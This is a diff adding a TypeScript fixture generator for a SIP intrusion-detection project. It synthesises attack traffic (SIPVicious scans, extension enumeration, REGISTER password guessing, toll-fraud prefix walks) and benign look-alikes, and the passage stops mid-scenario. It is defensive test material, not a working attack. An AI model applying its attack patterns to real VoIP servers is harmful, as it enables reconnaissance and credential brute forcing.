@@ -1,0 +1,1775 @@
+//! Builds the JSONL fixtures of the REC / AUTH / DOS / MAL signatures.
+//!
+//!   npx tsx signatures/tools/make-fixtures.ts            (from the repository root)
+//!
+//! Every synthetic event goes through the collector's own code path: the SIP message is written as
+//! wire text, parsed by `parseSipMessage` and turned into an event by `toSipEvent` — the same two
+//! calls `sipward decode` makes for a UDP datagram — so fields, anomaly codes and event ids are
+//! exactly what the collector emits. Benign look-alikes also come verbatim from the testbed captures
+//! (test/fixtures/captures/*.pcap, real sipp + kamailio traffic) through `decodeInputs`.
+//! Output is deterministic (seeded PRNG, fixed clock): re-running it rewrites identical files.
+//! signatures/tools/tsconfig.json type-checks this folder (`npx tsc -p signatures/tools`) and lets ESLint's
+//! project service find it; the root build (tsconfig.json) does not compile or emit it.
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { dirname, join, resolve } from 'node:path';
+import type { SipEvent, Transport } from '../../schema/src/sip-event';
+import { parseSipMessage } from '../../collectors/src/sip/parser';
+import { toSipEvent } from '../../collectors/src/event/to-sip-event';
+import { toJsonLine } from '../../collectors/src/event/jsonl';
+import { decodeInputs } from '../../collectors/src/decode';
+import { createLogger } from '../../lib/src/logger';
+
+const ROOT = resolve(__dirname, '..', '..');
+const SIGS = join(ROOT, 'signatures');
+
+// ---------------------------------------------------------------------------------------------
+// Deterministic randomness and time
+
+/** mulberry32: small seeded PRNG, so tags, branches and nonces are stable across runs. */
+function prng(seed: number): () => number {
+  let a = seed >>> 0;
+  return () => {
+    a = (a + 0x6d2b79f5) >>> 0;
+    let t = a;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+class Rand {
+  private readonly next: () => number;
+  constructor(seed: number) {
+    this.next = prng(seed);
+  }
+  int(lo: number, hi: number): number {
+    return lo + Math.floor(this.next() * (hi - lo + 1));
+  }
+  hex(n: number): string {
+    let s = '';
+    for (let i = 0; i < n; i++) s += '0123456789abcdef'[this.int(0, 15)] ?? '0';
+    return s;
+  }
+  pick<T>(items: readonly T[]): T {
+    const item = items[this.int(0, items.length - 1)];
+    if (item === undefined) throw new Error('pick from an empty list');
+    return item;
+  }
+}
+
+/** Event time in microseconds since the epoch. */
+class Clock {
+  constructor(public us: number) {}
+  static at(iso: string): Clock {
+    return new Clock(Date.parse(iso) * 1000);
+  }
+  advanceMs(ms: number): number {
+    this.us += Math.round(ms * 1000);
+    return this.us;
+  }
+}
+
+// ---------------------------------------------------------------------------------------------
+// SIP messages as wire text
+
+interface Endpoint {
+  ip: string;
+  port: number;
+}
+
+interface NameAddr {
+  user?: string;
+  host: string;
+  display?: string;
+  tag?: string;
+  /** Raw header value instead of the generated one (malformed fixtures). */
+  raw?: string;
+}
+
+interface RequestSpec {
+  method: string;
+  /** Request-URI; default sip:<to.user>@<to.host>. */
+  ruri?: string;
+  from: NameAddr;
+  to: NameAddr;
+  callId: string;
+  cseq: number;
+  /** CSeq method when it differs from the request method (malformed fixtures). */
+  cseqMethod?: string;
+  branch: string;
+  /** The sender's transport address, written into Via and Contact. */
+  via: Endpoint;
+  contactUser?: string;
+  userAgent?: string;
+  /** Digest username and realm: adds an Authorization header with a (dummy) response. */
+  auth?: { username: string; realm: string; header?: 'Authorization' | 'Proxy-Authorization' };
+  expires?: number;
+  maxForwards?: number | null;
+  body?: { type: string; text: string };
+  extraHeaders?: string[];
+  /** Headers to leave out (malformed fixtures): 'Call-ID', 'From', 'Via', ... */
+  omit?: string[];
+  /** Replace the whole start line (malformed fixtures). */
+  startLine?: string;
+  /** Content-Length to declare instead of the real one (malformed fixtures). */
+  contentLength?: number;
+}
+
+function nameAddr(a: NameAddr): string {
+  if (a.raw !== undefined) return a.raw;
+  const uri = a.user !== undefined ? `sip:${a.user}@${a.host}` : `sip:${a.host}`;
+  const display = a.display !== undefined ? `"${a.display}" ` : '';
+  return `${display}<${uri}>${a.tag !== undefined ? `;tag=${a.tag}` : ''}`;
+}
+
+function digestValue(r: Rand, auth: NonNullable<RequestSpec['auth']>, uri: string): string {
+  return (
+    `Digest username="${auth.username}",realm="${auth.realm}",nonce="${r.hex(24)}",uri="${uri}",` +
+    `response="${r.hex(32)}",algorithm=MD5`
+  );
+}
+
+function renderRequest(r: Rand, q: RequestSpec): string {
+  const ruri = q.ruri ?? (q.to.user !== undefined ? `sip:${q.to.user}@${q.to.host}` : `sip:${q.to.host}`);
+  const omit = new Set(q.omit ?? []);
+  const body = q.body?.text ?? '';
+  const lines: string[] = [q.startLine ?? `${q.method} ${ruri} SIP/2.0`];
+  const add = (name: string, value: string): void => {
+    if (!omit.has(name)) lines.push(`${name}: ${value}`);
+  };
+  add('Via', `SIP/2.0/UDP ${q.via.ip}:${q.via.port};branch=${q.branch};rport`);
+  if (q.maxForwards !== null) add('Max-Forwards', String(q.maxForwards ?? 70));
+  add('From', nameAddr(q.from));
+  add('To', nameAddr(q.to));
+  add('Call-ID', q.callId);
+  add('CSeq', `${q.cseq} ${q.cseqMethod ?? q.method}`);
+  if (q.method === 'INVITE' || q.method === 'REGISTER' || q.method === 'SUBSCRIBE') {
+    add('Contact', `<sip:${q.contactUser ?? q.from.user ?? 'anonymous'}@${q.via.ip}:${q.via.port}>`);
+  }
+  if (q.auth !== undefined) add(q.auth.header ?? 'Authorization', digestValue(r, q.auth, ruri));
+  if (q.expires !== undefined) add('Expires', String(q.expires));
+  if (q.userAgent !== undefined) add('User-Agent', q.userAgent);
+  for (const h of q.extraHeaders ?? []) lines.push(h);
+  if (q.body !== undefined) add('Content-Type', q.body.type);
+  add('Content-Length', String(q.contentLength ?? Buffer.byteLength(body, 'utf8')));
+  return lines.join('\r\n') + '\r\n\r\n' + body;
+}
+
+interface ResponseOptions {
+  toTag?: string;
+  server?: string;
+  challenge?: 'www' | 'proxy';
+  realm?: string;
+  extraHeaders?: string[];
+  body?: { type: string; text: string };
+}
+
+const REASONS: Record<number, string> = {
+  100: 'Trying',
+  180: 'Ringing',
+  183: 'Session Progress',
+  200: 'OK',
+  401: 'Unauthorized',
+  403: 'Forbidden',
+  404: 'Not Found',
+  407: 'Proxy Authentication Required',
+  408: 'Request Timeout',
+  480: 'Temporarily Unavailable',
+  484: 'Address Incomplete',
+  486: 'Busy Here',
+  487: 'Request Terminated',
+  488: 'Not Acceptable Here',
+  500: 'Server Internal Error',
+  503: 'Service Unavailable',
+  603: 'Decline',
+};
+
+function renderResponse(r: Rand, q: RequestSpec, status: number, o: ResponseOptions = {}): string {
+  const to: NameAddr = { ...q.to };
+  if (status > 100 && to.tag === undefined) to.tag = o.toTag ?? r.hex(10);
+  const lines: string[] = [
+    `SIP/2.0 ${status} ${REASONS[status] ?? 'Unknown'}`,
+    `Via: SIP/2.0/UDP ${q.via.ip}:${q.via.port};branch=${q.branch};rport=${q.via.port};received=${q.via.ip}`,
+    `From: ${nameAddr(q.from)}`,
+    `To: ${nameAddr(to)}`,
+    `Call-ID: ${q.callId}`,
+    `CSeq: ${q.cseq} ${q.cseqMethod ?? q.method}`,
+  ];
+  if (o.challenge !== undefined) {
+    const name = o.challenge === 'www' ? 'WWW-Authenticate' : 'Proxy-Authenticate';
+    lines.push(`${name}: Digest realm="${o.realm ?? 'sipward.test'}", nonce="${r.hex(24)}", algorithm=MD5`);
+  }
+  if (o.server !== undefined) lines.push(`Server: ${o.server}`);
+  for (const h of o.extraHeaders ?? []) lines.push(h);
+  const body = o.body?.text ?? '';
+  if (o.body !== undefined) lines.push(`Content-Type: ${o.body.type}`);
+  lines.push(`Content-Length: ${Buffer.byteLength(body, 'utf8')}`);
+  return lines.join('\r\n') + '\r\n\r\n' + body;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Events
+
+/** A fixture under construction: wire messages in, collector events out, kept in time order. */
+class Fixture {
+  readonly events: SipEvent[] = [];
+  constructor(readonly r: Rand) {}
+
+  /** Parse `text` as one UDP datagram from `src` to `dst` at `us`, exactly as SipDecoder does. */
+  wire(text: string, src: Endpoint, dst: Endpoint, us: number, transport: Transport = 'udp'): SipEvent {
+    const buf = Buffer.from(text, 'utf8');
+    const msg = parseSipMessage(buf, 0, buf.length, { stream: transport !== 'udp' });
+    const tsSec = Math.floor(us / 1e6);
+    const tsNsec = (us - tsSec * 1e6) * 1000;
+    const event = toSipEvent(
+      msg,
+      {
+        tsSec,
+        tsNsec,
+        srcIp: src.ip,
+        dstIp: dst.ip,
+        srcPort: src.port,
+        dstPort: dst.port,
+        protocol: 'udp',
+        vlan: [],
+        tunnel: [],
+      },
+      { transport },
+    );
+    this.events.push(event);
+    return event;
+  }
+
+  request(q: RequestSpec, dst: Endpoint, us: number): void {
+    this.wire(renderRequest(this.r, q), q.via, dst, us);
+  }
+
+  response(q: RequestSpec, status: number, from: Endpoint, us: number, o: ResponseOptions = {}): void {
+    this.wire(renderResponse(this.r, q, status, o), from, q.via, us);
+  }
+
+  /** Appends events decoded elsewhere (real captures). */
+  append(events: readonly SipEvent[]): void {
+    this.events.push(...events);
+  }
+
+  write(path: string): void {
+    const sorted = [...this.events].sort((a, b) =>
+      a['@timestamp'] < b['@timestamp'] ? -1 : a['@timestamp'] > b['@timestamp'] ? 1 : 0,
+    );
+    const file = join(SIGS, path);
+    mkdirSync(dirname(file), { recursive: true });
+    writeFileSync(file, sorted.map(toJsonLine).join(''));
+    written.push(`${path} (${sorted.length} events)`);
+  }
+}
+
+const written: string[] = [];
+
+/** Events of a testbed capture, as `sipward decode <capture>` prints them. */
+async function decodeCapture(name: string): Promise<SipEvent[]> {
+  const events: SipEvent[] = [];
+  await decodeInputs(
+    { captures: [join(ROOT, 'test', 'fixtures', 'captures', name)], log: createLogger('silent') },
+    { onEvent: (e) => events.push(e), afterBatch: () => Promise.resolve() },
+  );
+  return events;
+}
+
+function writeEvents(path: string, events: readonly SipEvent[]): void {
+  const file = join(SIGS, path);
+  mkdirSync(dirname(file), { recursive: true });
+  writeFileSync(file, events.map(toJsonLine).join(''));
+  written.push(`${path} (${events.length} events, real capture)`);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Building blocks shared by scenarios
+
+const UA = {
+  svwar: 'friendly-scanner',
+  sippts: 'sipptk',
+  yealink: 'Yealink SIP-T46S 66.86.0.15',
+  polycom: 'PolycomVVX-VVX_450-UA/6.4.3.5018',
+  asterisk: 'Asterisk PBX 18.20.0',
+  freeswitch: 'FreeSWITCH-mod_sofia/1.10.11-release~64bit',
+  zoiper: 'Zoiper rv2.10.20.4',
+  linphone: 'Linphone-Desktop/5.2.4 (belle-sip/5.2.94)',
+  grandstream: 'Grandstream GXP2170 1.0.11.23',
+  kamailio: 'kamailio (5.7.4 (x86_64/linux))',
+  sbc: 'Oracle ESBC',
+};
+
+const SDP = (ip: string, port: number, extra = ''): { type: string; text: string } => ({
+  type: 'application/sdp',
+  text:
+    `v=0\r\no=- ${port}1 ${port}1 IN IP4 ${ip}\r\ns=-\r\nc=IN IP4 ${ip}\r\nt=0 0\r\n` +
+    `m=audio ${port} RTP/AVP 0 8 101\r\na=rtpmap:0 PCMU/8000\r\na=rtpmap:8 PCMA/8000\r\n` +
+    `a=rtpmap:101 telephone-event/8000\r\na=fmtp:101 0-16\r\na=sendrecv\r\n${extra}`,
+});
+
+/** A full answered/failed call: INVITE, 100, optional 180, final, ACK (2xx: new branch), BYE. */
+function call(
+  f: Fixture,
+  c: Clock,
+  caller: Endpoint,
+  callee: Endpoint,
+  o: {
+    from: string;
+    to: string;
+    domain: string;
+    final: number;
+    ua?: string;
+    server?: string;
+    ringMs?: number;
+    talkMs?: number;
+    auth?: { username: string; realm: string };
+    /** Proxy challenges the first INVITE with 407, the UA retries with Proxy-Authorization. */
+    challenge?: boolean;
+  },
+): void {
+  const r = f.r;
+  const callId = `${r.hex(16)}@${caller.ip}`;
+  const fromTag = r.hex(8);
+  let cseq = 1;
+  const invite = (auth: boolean): RequestSpec => ({
+    method: 'INVITE',
+    ruri: `sip:${o.to}@${o.domain}`,
+    from: { user: o.from, host: o.domain, tag: fromTag },
+    to: { user: o.to, host: o.domain },
+    callId,
+    cseq: cseq,
+    branch: `z9hG4bK${r.hex(12)}`,
+    via: caller,
+    ...(o.ua !== undefined ? { userAgent: o.ua } : {}),
+    ...(auth && o.auth !== undefined ? { auth: { ...o.auth, header: 'Proxy-Authorization' as const } } : {}),
+    body: SDP(caller.ip, 10000 + 2 * r.int(0, 9999)),
+  });
+  if (o.challenge === true) {
+    const q0 = invite(false);
+    f.request(q0, callee, c.us);
+    f.response(q0, 407, callee, c.advanceMs(2), {
+      challenge: 'proxy',
+      realm: o.domain,
+      ...(o.server ? { server: o.server } : {}),
+    });
+    f.request(
+      {
+        method: 'ACK',
+        ruri: q0.ruri,
+        from: q0.from,
+        to: { ...q0.to, tag: r.hex(8) },
+        callId,
+        cseq: 1,
+        branch: q0.branch,
+        via: caller,
+      },
+      callee,
+      c.advanceMs(1),
+    );
+    cseq = 2;
+    c.advanceMs(20);
+  }
+  const q = invite(o.challenge === true);
+  f.request(q, callee, c.us);
+  f.response(q, 100, callee, c.advanceMs(3), o.server !== undefined ? { server: o.server } : {});
+  const toTag = r.hex(10);
+  if (o.final !== 503 && o.final !== 404 && o.final !== 403 && o.final !== 484) {
+    f.response(q, 180, callee, c.advanceMs(40), { toTag });
+    c.advanceMs(o.ringMs ?? 3000);
+  } else c.advanceMs(15);
+  f.response(q, o.final, callee, c.us, {
+    toTag,
+    ...(o.server !== undefined ? { server: o.server } : {}),
+    ...(o.final === 200 ? { body: SDP(callee.ip, 20000 + 2 * r.int(0, 9999)) } : {}),
+  });
+  const to = { ...q.to, tag: toTag };
+  if (o.final >= 200 && o.final < 300) {
+    f.request(
+      {
+        method: 'ACK',
+        ruri: `sip:${o.to}@${callee.ip}`,
+        from: q.from,
+        to,
+        callId,
+        cseq,
+        branch: `z9hG4bK${r.hex(12)}`,
+        via: caller,
+      },
+      callee,
+      c.advanceMs(2),
+    );
+    c.advanceMs(o.talkMs ?? 20000);
+    const bye: RequestSpec = {
+      method: 'BYE',
+      ruri: `sip:${o.to}@${callee.ip}`,
+      from: q.from,
+      to,
+      callId,
+      cseq: cseq + 1,
+      branch: `z9hG4bK${r.hex(12)}`,
+      via: caller,
+    };
+    f.request(bye, callee, c.us);
+    f.response(bye, 200, callee, c.advanceMs(3));
+  } else {
+    f.request(
+      { method: 'ACK', ruri: q.ruri, from: q.from, to, callId, cseq, branch: q.branch, via: caller },
+      callee,
+      c.advanceMs(1),
+    );
+  }
+}
+
+/**
+ * One REGISTER login as a phone (or svcrack) does it: unauthenticated REGISTER → 401 challenge →
+ * REGISTER with credentials → `final` (200 = right password, 401/403 = wrong one).
+ */
+function registerLogin(
+  f: Fixture,
+  c: Clock,
+  client: Endpoint,
+  registrar: Endpoint,
+  o: {
+    user: string;
+    domain: string;
+    final: number;
+    ua?: string;
+    server?: string;
+    callId?: string;
+    cseqStart?: number;
+    expires?: number;
+    skipChallenge?: boolean;
+  },
+): void {
+  const r = f.r;
+  const callId = o.callId ?? `${r.hex(20)}@${client.ip}`;
+  const fromTag = r.hex(8);
+  let cseq = o.cseqStart ?? 1;
+  const reg = (auth: boolean): RequestSpec => ({
+    method: 'REGISTER',
+    ruri: `sip:${o.domain}`,
+    from: { user: o.user, host: o.domain, tag: fromTag },
+    to: { user: o.user, host: o.domain },
+    callId,
+    cseq: cseq++,
+    branch: `z9hG4bK${r.hex(12)}`,
+    via: client,
+    expires: o.expires ?? 3600,
+    ...(o.ua !== undefined ? { userAgent: o.ua } : {}),
+    ...(auth ? { auth: { username: o.user, realm: o.domain } } : {}),
+  });
+  const server = o.server !== undefined ? { server: o.server } : {};
+  if (o.skipChallenge !== true) {
+    const q1 = reg(false);
+    f.request(q1, registrar, c.us);
+    f.response(q1, 401, registrar, c.advanceMs(1 + r.int(0, 3)), { challenge: 'www', realm: o.domain, ...server });
+    c.advanceMs(2 + r.int(0, 5));
+  }
+  const q2 = reg(true);
+  f.request(q2, registrar, c.us);
+  f.response(q2, o.final, registrar, c.advanceMs(1 + r.int(0, 3)), {
+    ...server,
+    ...(o.final === 401 ? { challenge: 'www' as const, realm: o.domain } : {}),
+    ...(o.final === 200
+      ? { extraHeaders: [`Contact: <sip:${o.user}@${client.ip}:${client.port}>;expires=${o.expires ?? 3600}`] }
+      : {}),
+  });
+}
+
+/** A plain out-of-dialog request with one answer (or none when `status` is undefined). */
+function probe(
+  f: Fixture,
+  c: Clock,
+  src: Endpoint,
+  dst: Endpoint,
+  o: {
+    method: string;
+    toUser?: string;
+    toHost?: string;
+    fromUser?: string;
+    fromDisplay?: string;
+    ua?: string;
+    status?: number;
+    server?: string;
+    answerMs?: number;
+    extra?: Partial<RequestSpec>;
+  },
+): RequestSpec {
+  const r = f.r;
+  const host = o.toHost ?? dst.ip;
+  const q: RequestSpec = {
+    method: o.method,
+    from: {
+      user: o.fromUser ?? 'probe',
+      host: src.ip,
+      tag: r.hex(8),
+      ...(o.fromDisplay !== undefined ? { display: o.fromDisplay } : {}),
+    },
+    to: { ...(o.toUser !== undefined ? { user: o.toUser } : {}), host },
+    callId: `${r.hex(20)}`,
+    cseq: 1,
+    branch: `z9hG4bK-${r.hex(10)}`,
+    via: src,
+    ...(o.ua !== undefined ? { userAgent: o.ua } : {}),
+    ...o.extra,
+  };
+  f.request(q, dst, c.us);
+  if (o.status !== undefined) {
+    f.response(q, o.status, dst, c.advanceMs(o.answerMs ?? 1 + r.int(0, 4)), {
+      ...(o.server !== undefined ? { server: o.server } : {}),
+      ...(o.status === 401 ? { challenge: 'www' as const, realm: host } : {}),
+    });
+  }
+  return q;
+}
+
+/** Timer A/E resends of the same request bytes (RFC 3261 §17.1.1.2: T1 = 500 ms, doubling). */
+function retransmit(f: Fixture, text: string, src: Endpoint, dst: Endpoint, startUs: number, times: number): number {
+  let t = startUs;
+  let interval = 500;
+  for (let i = 0; i < times; i++) {
+    t += interval * 1000;
+    f.wire(text, src, dst, t);
+    interval = Math.min(interval * 2, 4000);
+  }
+  return t;
+}
+
+// Addresses: attackers in 203.0.113.0/24 (TEST-NET-3), the victim SIP core in 198.51.100.0/24
+// (TEST-NET-2), the testbed / enterprise LAN in 10.77.0.0/16.
+const REGISTRAR: Endpoint = { ip: '198.51.100.10', port: 5060 };
+const PROXY: Endpoint = { ip: '198.51.100.20', port: 5060 };
+const DOMAIN = 'voip.example.net';
+
+// ---------------------------------------------------------------------------------------------
+// Scenarios, per signature
+
+function recon(realUdp: SipEvent[]): void {
+  // SIP-REC-01 --------------------------------------------------------------------------------
+  {
+    const f = new Fixture(new Rand(101));
+    const c = Clock.at('2026-11-20T03:12:05Z');
+    const scanner: Endpoint = { ip: '203.0.113.66', port: 5070 };
+    // svmap: one OPTIONS per host, UA friendly-scanner, From "sipvicious"<sip:100@1.1.1.1>.
+    for (let i = 0; i < 5; i++) {
+      probe(
+        f,
+        c,
+        scanner,
+        { ip: `198.51.100.${10 + i}`, port: 5060 },
+        {
+          method: 'OPTIONS',
+          toUser: '100',
+          fromUser: '100',
+          fromDisplay: 'sipvicious',
+          ua: UA.svwar,
+          ...(i === 0 ? { status: 200, server: UA.asterisk } : {}),
+        },
+      );
+      c.advanceMs(20);
+    }
+    f.write('recon/SIP-REC-01/positive/svmap-friendly-scanner.jsonl');
+  }
+  {
+    // UA rotated to a softphone string, but the tool still says who it is in the From display
+    // name (ET 2008578) — and a second source runs sippts with its default UA.
+    const f = new Fixture(new Rand(102));
+    const c = Clock.at('2026-11-20T04:40:00Z');
+    probe(f, c, { ip: '203.0.113.67', port: 5060 }, REGISTRAR, {
+      method: 'OPTIONS',
+      toUser: '1001',
+      fromUser: '1001',
+      fromDisplay: 'sipvicious',
+      ua: UA.zoiper,
+      status: 404,
+      server: UA.asterisk,
+    });
+    c.advanceMs(1000);
+    probe(f, c, { ip: '203.0.113.68', port: 5060 }, REGISTRAR, {
+      method: 'OPTIONS',
+      toUser: '100',
+      fromUser: '100',
+      ua: UA.sippts,
+      status: 200,
+      server: UA.asterisk,
+    });
+    f.write('recon/SIP-REC-01/positive/renamed-ua-and-sippts.jsonl');
+  }
+  {
+    // Everyday user agents, including the ones the list deliberately leaves out ("Asterisk PBX"
+    // is both the real Asterisk and a modified-SIPVicious UA; Zoiper is a popular softphone).
+    const f = new Fixture(new Rand(103));
+    const c = Clock.at('2026-11-20T09:00:00Z');
+    const uas = [
+      UA.asterisk,
+      UA.zoiper,
+      UA.yealink,
+      UA.polycom,
+      UA.linphone,
+      UA.grandstream,
+      UA.freeswitch,
+      'MicroSIP/3.21.3',
+      'Bria 6 release 6.5.2',
+      'Cisco-SIPGateway/IOS-15.x',
+    ];
+    uas.forEach((ua, i) => {
+      registerLogin(f, c, { ip: `10.77.3.${20 + i}`, port: 5060 }, REGISTRAR, {
+        user: String(2000 + i),
+        domain: DOMAIN,
+        final: 200,
+        ua,
+        server: UA.kamailio,
+      });
+      c.advanceMs(500);
+    });
+    f.write('recon/SIP-REC-01/negative/everyday-user-agents.jsonl');
+  }
+  writeEvents('recon/SIP-REC-01/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-REC-02 --------------------------------------------------------------------------------
+  {
+    // svmap 198.51.100.0/26: 60 hosts in ~3 s, most silent, a few answer.
+    const f = new Fixture(new Rand(201));
+    const c = Clock.at('2026-11-20T03:12:05Z');
+    const scanner: Endpoint = { ip: '203.0.113.66', port: 5070 };
+    for (let i = 1; i <= 60; i++) {
+      const answer = i % 17 === 0;
+      probe(
+        f,
+        c,
+        scanner,
+        { ip: `198.51.100.${i}`, port: 5060 },
+        {
+          method: 'OPTIONS',
+          toUser: '100',
+          fromUser: '100',
+          ua: 'Linksys/SPA942-6.1.5a',
+          ...(answer ? { status: 200, server: UA.asterisk } : {}),
+        },
+      );
+      c.advanceMs(50);
+    }
+    f.write('recon/SIP-REC-02/positive/options-sweep-60-hosts.jsonl');
+  }
+  {
+    // A trunk keepalive: the testbed's OPTIONS (From keepalive) to one peer every 10 s for 10 min.
+    const f = new Fixture(new Rand(202));
+    const c = Clock.at('2026-11-20T10:00:00Z');
+    const ua: Endpoint = { ip: '10.77.0.11', port: 5060 };
+    const peer: Endpoint = { ip: '10.77.0.21', port: 5060 };
+    for (let i = 1; i <= 60; i++) {
+      probe(f, c, ua, peer, {
+        method: 'OPTIONS',
+        fromUser: 'keepalive',
+        ua: 'sipward-testbed-sipp',
+        status: 200,
+        server: 'sipward-testbed-registrar',
+      });
+      c.advanceMs(10000);
+    }
+    f.write('recon/SIP-REC-02/negative/keepalive-one-peer.jsonl');
+  }
+  {
+    // An SBC health-checking its 12 trunk peers every 30 s (dispatcher-style), all answered.
+    const f = new Fixture(new Rand(203));
+    const c = Clock.at('2026-11-20T10:00:00Z');
+    const sbc: Endpoint = { ip: '10.77.1.1', port: 5060 };
+    for (let round = 0; round < 10; round++) {
+      for (let p = 1; p <= 12; p++) {
+        probe(
+          f,
+          c,
+          sbc,
+          { ip: `198.51.100.${100 + p}`, port: 5060 },
+          { method: 'OPTIONS', fromUser: 'ping', ua: UA.sbc, status: 200, server: UA.freeswitch },
+        );
+        c.advanceMs(100);
+      }
+      c.advanceMs(30000 - 1200);
+    }
+    f.write('recon/SIP-REC-02/negative/sbc-pings-12-peers.jsonl');
+  }
+  writeEvents('recon/SIP-REC-02/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-REC-03 --------------------------------------------------------------------------------
+  {
+    // svwar -e100-199 -m REGISTER: 404 for unknown users, 401 for the valid ones (the differential).
+    const f = new Fixture(new Rand(301));
+    const c = Clock.at('2026-11-20T03:20:00Z');
+    const scanner: Endpoint = { ip: '203.0.113.77', port: 5061 };
+    const valid = new Set(['101', '120', '150']);
+    for (let ext = 100; ext <= 199; ext++) {
+      const user = String(ext);
+      probe(f, c, scanner, REGISTRAR, {
+        method: 'REGISTER',
+        toUser: user,
+        fromUser: user,
+        toHost: DOMAIN,
+        ua: UA.svwar,
+        status: valid.has(user) ? 401 : 404,
+        server: UA.asterisk,
+      });
+      c.advanceMs(40);
+    }
+    f.write('recon/SIP-REC-03/positive/svwar-register-100-199.jsonl');
+  }
+  {
+    // svwar -m OPTIONS against a server that answers 403 for unknown users instead of 404.
+    const f = new Fixture(new Rand(302));
+    const c = Clock.at('2026-11-21T01:00:00Z');
+    const scanner: Endpoint = { ip: '203.0.113.78', port: 5060 };
+    for (let ext = 1000; ext < 1040; ext++) {
+      probe(f, c, scanner, PROXY, {
+        method: 'OPTIONS',
+        toUser: String(ext),
+        fromUser: String(ext),
+        toHost: DOMAIN,
+        ua: 'sipcli/v1.8',
+        status: ext === 1007 ? 200 : 403,
+        server: UA.freeswitch,
+      });
+      c.advanceMs(900);
+    }
+    f.write('recon/SIP-REC-03/positive/options-enumeration-403.jsonl');
+  }
+  {
+    // A PBX calling 30 distinct customers through a proxy that challenges every INVITE (407, no
+    // credentials yet) and then accepts the authenticated retry: challenges are not enumeration.
+    const f = new Fixture(new Rand(303));
+    const c = Clock.at('2026-11-20T11:00:00Z');
+    const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
+    for (let i = 0; i < 30; i++) {
+      call(f, c, pbx, PROXY, {
+        from: '2100',
+        to: `4930${String(5550100 + i)}`,
+        domain: DOMAIN,
+        final: i % 5 === 0 ? 486 : 200,
+        ua: UA.asterisk,
+        server: UA.kamailio,
+        challenge: true,
+        auth: { username: 'pbx-trunk', realm: DOMAIN },
+        ringMs: 1500,
+        talkMs: 500,
+      });
+      c.advanceMs(1500);
+    }
+    f.write('recon/SIP-REC-03/negative/pbx-calls-challenged-by-proxy.jsonl');
+  }
+  {
+    // Near miss: 15 distinct wrong extensions dialled from one PBX in 2 minutes (threshold 20).
+    const f = new Fixture(new Rand(304));
+    const c = Clock.at('2026-11-20T12:00:00Z');
+    const pbx: Endpoint = { ip: '10.77.2.11', port: 5060 };
+    for (let i = 0; i < 15; i++) {
+      call(f, c, pbx, PROXY, {
+        from: '2200',
+        to: String(300 + i * 7),
+        domain: DOMAIN,
+        final: 404,
+        ua: UA.asterisk,
+        server: UA.kamailio,
+      });
+      c.advanceMs(7000);
+    }
+    f.write('recon/SIP-REC-03/negative/fifteen-wrong-extensions.jsonl');
+  }
+  writeEvents('recon/SIP-REC-03/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-REC-04 --------------------------------------------------------------------------------
+  {
+    // An open-relay / stolen-account probe walking international prefixes for one UK number.
+    const f = new Fixture(new Rand(401));
+    const c = Clock.at('2026-11-20T02:10:00Z');
+    const attacker: Endpoint = { ip: '203.0.113.88', port: 5060 };
+    const national = '442079460123';
+    const prefixes = ['', '0', '00', '000', '011', '9', '900', '9011', '8', '800', '1', '01', '001', '0000', '99', '7'];
+    prefixes.forEach((p, i) => {
+      const final = i === prefixes.length - 1 ? 403 : ([404, 403, 484, 488, 503][i % 5] ?? 404);
+      call(f, c, attacker, PROXY, {
+        from: '100',
+        to: p + national,
+        domain: PROXY.ip,
+        final,
+        ua: UA.sippts,
+        server: UA.kamailio,
+      });
+      c.advanceMs(600);
+    });
+    f.write('recon/SIP-REC-04/positive/prefix-walk-uk-number.jsonl');
+  }
+  {
+    // A contact-centre trunk: 40 outbound calls to distinct numbers in a minute, 6 of them to
+    // numbers that do not exist (404/484) — ordinary dialling errors stay below 10.
+    const f = new Fixture(new Rand(402));
+    const c = Clock.at('2026-11-20T14:00:00Z');
+    const trunk: Endpoint = { ip: '10.77.2.20', port: 5060 };
+    for (let i = 0; i < 40; i++) {
+      const final = i % 7 === 3 ? (i % 2 === 0 ? 404 : 484) : i % 5 === 0 ? 486 : i % 9 === 0 ? 480 : 200;
+      call(f, c, trunk, PROXY, {
+        from: '8000',
+        to: `33${String(140000000 + i * 3713)}`,
+        domain: DOMAIN,
+        final,
+        ua: UA.freeswitch,
+        server: UA.kamailio,
+        ringMs: 200,
+        talkMs: 100,
+      });
+      c.advanceMs(900);
+    }
+    f.write('recon/SIP-REC-04/negative/contact-centre-dialling-errors.jsonl');
+  }
+  {
+    // Near miss: 15 short internal extensions rejected in 20 s — extension enumeration (REC-03's
+    // business), not a dial-plan walk: the numbers are too short to be external destinations.
+    const f = new Fixture(new Rand(403));
+    const c = Clock.at('2026-11-20T15:00:00Z');
+    const src: Endpoint = { ip: '203.0.113.89', port: 5060 };
+    for (let i = 0; i < 15; i++) {
+      call(f, c, src, PROXY, {
+        from: '100',
+        to: String(200 + i),
+        domain: DOMAIN,
+        final: 404,
+        ua: 'pplsip',
+        server: UA.kamailio,
+      });
+      c.advanceMs(1000);
+    }
+    f.write('recon/SIP-REC-04/negative/short-extensions-rejected.jsonl');
+  }
+  writeEvents('recon/SIP-REC-04/negative/testbed-udp-real.jsonl', realUdp);
+}
+
+function auth(realUdp: SipEvent[]): void {
+  const attacker: Endpoint = { ip: '203.0.113.7', port: 5070 };
+
+  // SIP-AUTH-01 -------------------------------------------------------------------------------
+  {
+    // svcrack -u1001 -d dictionary.txt: 40 guesses in ~30 s, each one challenge + one wrong answer.
+    const f = new Fixture(new Rand(501));
+    const c = Clock.at('2026-11-20T03:30:00Z');
+    for (let i = 0; i < 40; i++) {
+      registerLogin(f, c, attacker, REGISTRAR, {
+        user: '1001',
+        domain: DOMAIN,
+        final: i % 3 === 0 ? 401 : 403,
+        ua: UA.svwar,
+        server: UA.asterisk,
+      });
+      c.advanceMs(700);
+    }
+    f.write('auth/SIP-AUTH-01/positive/svcrack-dictionary-1001.jsonl');
+  }
+  {
+    // INVITE brute force: a toll-fraud bot guessing the password of account 2001 on the proxy,
+    // each authenticated INVITE re-challenged with 407 (the caller account is the From user).
+    const f = new Fixture(new Rand(502));
